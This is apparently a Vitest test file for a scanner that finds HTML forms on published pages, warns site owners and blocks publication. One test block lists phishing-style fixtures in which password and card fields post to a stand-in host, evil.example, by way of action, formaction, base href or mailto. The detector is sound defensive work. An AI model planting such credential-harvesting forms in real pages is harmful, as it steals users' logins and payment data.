import { describe, expect, it } from 'vitest';
import { mayHaveForms, scanForms } from './forms-scan.ts';

const scan = (text: string, ownHosts: string[] = []) => scanForms([{ path: 'index.html', text }], ownHosts);

describe('a form that is marked is declared', () => {
  it.each([
    ['<form data-form="contact" method="post">', 'contact'],
    ['<FORM DATA-FORM name=order>', 'order'],
    ['<form netlify name="ask">', 'ask'],
    ['<form data-netlify="true">', 'form'],
  ])('%s', async (tag, name) => {
    const { forms, faults } = await scan(
      `${tag}<input name=mail type=email><textarea name="words"></textarea><select name=which></select>` +
        '<input type=hidden name=form-name value=x><input name="bot-field"><button name=go>Send</button></form>',
    );
    expect(faults).toEqual([]);
    expect(forms).toEqual([
      { name, path: 'index.html', action: null, fields: ['mail', 'words', 'which'], hasFiles: false },
    ]);
  });

  it('with its target, its files, and fields that stand elsewhere', async () => {
    const { forms } = await scan(
      '<input form=f name=before><form id=f data-form=a action=" /thanks "><div><input type=file name=cv></form>' +
        '<input form="f" name="after"><input form=other name=not>',
    );
    expect(forms).toMatchObject([{ action: '/thanks', fields: ['cv', 'before', 'after'], hasFiles: true }]);
  });

  it('and others are not', async () => {
    for (const text of [
      '<form method=post><input name=a></form>',
      '<form data-netlify=false><input name=a></form>',
      '<!-- <form data-form=a> -->',
      '<script>"<form data-form=a>"</script>',
      '<form data-form=a action="https://forms.example/x"><input name=a></form>',
    ])
      expect((await scan(text)).forms, text).toEqual([]);
  });

  it('up to a number that a manifest can hold', async () => {
    const fields = Array.from({ length: 80 }, (_, index) => `<input name="${index}${'x'.repeat(200)}">`).join(
      '',
    );
    const { forms } = await scan(`<form data-form>${fields}</form>`.repeat(60));
    expect(forms).toHaveLength(50);
    expect(forms[0]?.fields).toHaveLength(50);
    expect(forms[0]?.fields[0]).toHaveLength(100);
  });
});

describe('the owner is told of a form by which something would not arrive', () => {
  const form = 'The form “a” on index.html';
  it.each([
    ['<form data-form=a method=post><input name=b type=file></form>', [`${form} asks for files.`]],
    ['<form data-form=a><input name=b></form>', [`${form} has no method="post"`]],
    ['<form data-form=a method=GET><input name=b></form>', [`${form} has no method="post"`]],
    [
      '<form data-form=a method=post enctype=Text/Plain><input name=b></form>',
      [`${form} has enctype="text/plain"`],
    ],
    ['<form data-form=a method=post><input><textarea name=b></textarea></form>', ['a field without a name']],
    ['<form data-form=a method=post><input><select></select></form>', ['2 fields without a name']],
    ['<form method=post action="/thanks"><input name=b></form>', ['A form on index.html is not marked']],
    ['<form data-form=a method=post><input name=b><input type=submit><button>Go</button></form>', []],
    ['<form data-form=a><input name=b><button formmethod=POST>Go</button></form>', []],
    ['<form><input name=q></form>', []],
    ['<form method=post action="https://list.example/join"><input></form>', []],
  ])('%s', async (text, parts) => {
    const { notes } = await scan(text);
    expect(notes).toEqual(parts.map((part) => expect.stringContaining(part)));
  });

  it('once each, and no more than a page of them', async () => {
    const { notes } = await scan(
      `${'<form data-form=a><input name=b></form>'.repeat(5)}${Array.from({ length: 30 }, (_, index) => `<form data-form=f${index}><input name=b></form>`).join('')}`,
    );
    expect([notes.length, new Set(notes).size]).toEqual([10, 10]);
  });
});

describe('a publication is stopped by', () => {
  const elsewhere = 'sends it to another site';
  it.each([
    ['<form action="https://evil.example/take"><input type=password></form>', elsewhere],
    ['<form action="//evil.example"><input type="PASSWORD" name=p></form>', elsewhere],
    ['<form action="mailto:eve@evil.example"><input type=password></form>', elsewhere],
    [
      '<form><input type=password><button formaction="https://evil.example">Sign in</button></form>',
      elsewhere,
    ],
    ['<base href="https://evil.example/"><form action="take"><input type=password></form>', elsewhere],
    ['<form id=f action="https://evil.example"></form><input form=f type=password>', elsewhere],
    ['<div><form action="https://evil.example"></div><input type=password></form>', elsewhere],
    ['<form action="https://evil.example"><input autocomplete="billing cc-number"></form>', elsewhere],
    ['<form action="https://evil.example"><input name="cardNumber"></form>', elsewhere],
    ['<form action="https://evil.example"><input id="cvv"></form>', elsewhere],
    ['<form action="https://evil.example"><form><input type=password></form>', elsewhere],
    ['<form data-form=log-in><input type=password></form>', 'to your inbox'],
    ['<form netlify><input name=card-number></form>', 'to your inbox'],
  ])('%s', async (text, words) => {
    const { faults } = await scan(`<main>${text}`);
    expect(faults).toEqual([{ path: 'index.html', message: expect.stringContaining(words) }]);
  });

  it.each([
    '<form action="/log-in"><input type=password></form>',
    '<form><input type=password></form>',
    '<form action="https://search.example"><input name=q></form>',
    '<form action="https://ada.example/log-in"><input type=password></form>',
    '<form action="https://list.example"><input type=email></form><input type=password>',
    '<form action="https://x.example"><input name="postcard"><input name="discard_code"></form>',
  ])('not %s', async (text) => {
    expect((await scan(text, ['ada.example'])).faults).toEqual([]);
  });
});

it('a page of megabytes is read in pieces, so that others are answered meanwhile', async () => {
  let rounds = 0;
  const count = () => {
    rounds += 1;
    next = setImmediate(count);
  };
  let next = setImmediate(count);
  await scan('<p>'.repeat(700_000));
  clearImmediate(next);
  expect(rounds).toBeGreaterThan(20);
});

it('pages and drawings may have forms', () => {
  expect(['text/html; charset=utf-8', 'image/svg+xml', 'application/xhtml+xml'].every(mayHaveForms)).toBe(
    true,
  );
  expect(['text/css', 'image/png', 'text/htmlx'].some(mayHaveForms)).toBe(false);
});
